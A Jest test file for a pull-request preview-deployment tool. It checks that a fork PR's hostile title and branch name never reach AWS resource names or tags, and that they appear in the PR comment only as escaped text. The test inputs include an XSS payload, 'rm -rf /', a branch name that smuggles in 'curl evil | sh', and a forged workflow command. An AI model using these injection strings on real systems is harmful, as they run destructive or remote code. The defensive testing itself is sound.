import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import type { Topology } from '../../emulator/fixtures/topology.js'
import { runPreview, type PreviewOutcome } from '../../src/preview/command.js'
import { commentMarker } from '../../src/preview/comment.js'
import { previewEnvironment } from '../../src/preview/names.js'
import { parseMarkdown } from '../report/gfm-model.js'
import { calls, clearCalls } from '../helpers/emulator.js'
import { listenerRules, service, tagsOf } from './aws-state.js'
import {
  depsFor,
  freshPair,
  previewInputs,
  pullRequest,
  settingsFor,
  startHarness,
  type Harness
} from './harness.js'

/*
 * A pull request from a fork is a stranger's: its title and branch name may be anything. They
 * must never become part of a resource name or tag, and the PR comment must show them as text.
 */

const TITLE =
  '<img src=x onerror=alert(1)> **urgent** fix by @octocat [click](http://evil) $(rm -rf /)\n# injected\n- [x] done'
const BRANCH = 'x`; curl evil | sh; `\u202e<script>alert(1)</script>\n::error::forged @org/team'

let h: Harness
let t: Topology
/** the hostile PR's preview, and every AWS call it made */
let outcome: PreviewOutcome
let sent: string

beforeAll(async () => {
  h = await startHarness()
  t = await freshPair(h)
  await clearCalls(h.emulator.url)
  outcome = await runPreview(
    settingsFor(previewInputs(t)),
    depsFor(h, { pullRequest: pullRequest(60, { title: TITLE, headRef: BRANCH }) })
  )
  sent = JSON.stringify(await calls(h.emulator.url))
  await runPreview(
    settingsFor(previewInputs(t)),
    depsFor(h, { pullRequest: pullRequest(61, { title: 'Plain title', headRef: 'plain-branch' }) })
  )
})

afterAll(async () => {
  await h.stop()
})

const MARKUP = /[<>[\]*_~$|`]/g
const BLOCK_PREFIX = /^(#{1,6}(?= |$)|[-+*] |\d+[.)] |>|\||<\/?[a-z]+)/

describe('a PR with a hostile title and branch name', () => {
  it('names and tags every resource with derived values only', async () => {
    expect(outcome.result).toBe('created')
    for (const fragment of ['evil', 'octocat', 'script', 'injected', 'forged', 'curl']) {
      expect(sent).not.toContain(fragment)
    }
    const rule = (await listenerRules(h, t.listenerArn)).find(
      (r) => r.hosts[0] === 'pr-60.preview.example.com'
    )!
    const created = await service(h, t.cluster, outcome.service!)
    const tags = [
      rule.tags,
      await tagsOf(h, rule.targetGroups[0]!),
      Object.fromEntries(created!.tags!.map((tag) => [tag.key!, tag.value!]))
    ]
    for (const set of tags) {
      expect(Object.values(set).every((value) => /^[0-9a-f]+$|^\d+$/.test(value))).toBe(true)
    }
    expect(outcome.service).toMatch(/^[A-Za-z0-9-]+$/)
  })

  it('shows the title and branch as text in the comment: no HTML, links, mentions or lines of their own', async () => {
    const hostile = parseMarkdown(h.github.commentsOn(60)[0]!.body)
    const plain = parseMarkdown(h.github.commentsOn(61)[0]!.body)

    expect(hostile.active.map((line) => BLOCK_PREFIX.exec(line)?.[0] ?? '')).toEqual(
      plain.active.map((line) => BLOCK_PREFIX.exec(line)?.[0] ?? '')
    )
    const markupOf = (line: string): string => (line.match(MARKUP) ?? []).join('')
    expect(hostile.active.map(markupOf)).toEqual(plain.active.map(markupOf))
    const active = hostile.active.join('\n')
    expect(active).not.toMatch(/(^|[^A-Za-z0-9_])@[A-Za-z0-9]/)
    expect(active).not.toMatch(/<(img|script)/)
    expect(active.match(/\]\(/g)).toHaveLength(plain.active.join('\n').match(/\]\(/g)!.length)
    const body = h.github.commentsOn(60)[0]!.body
    // eslint-disable-next-line no-control-regex
    expect(body).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202a-\u202e]/)
  })

  it("never takes over a stranger's comment that copies the marker", async () => {
    const marker = commentMarker(previewEnvironment(settingsFor(previewInputs(t))))
    const stranger = h.github.addComment(62, `${marker}\nplease merge`, {
      login: 'mallory',
      type: 'User',
      association: 'FIRST_TIME_CONTRIBUTOR'
    })
    await runPreview(settingsFor(previewInputs(t)), depsFor(h, { pullRequest: pullRequest(62) }))
    const comments = h.github.commentsOn(62)
    expect(comments).toHaveLength(2)
    expect(comments[0]!.body).toBe(`${marker}\nplease merge`)
    expect(comments[1]!.body).toContain('Ready')
    const edits = h.github.requests.filter(
      (r) => r.method === 'PATCH' && r.path.endsWith(`/comments/${stranger.id}`)
    )
    expect(edits).toEqual([])
  })
})
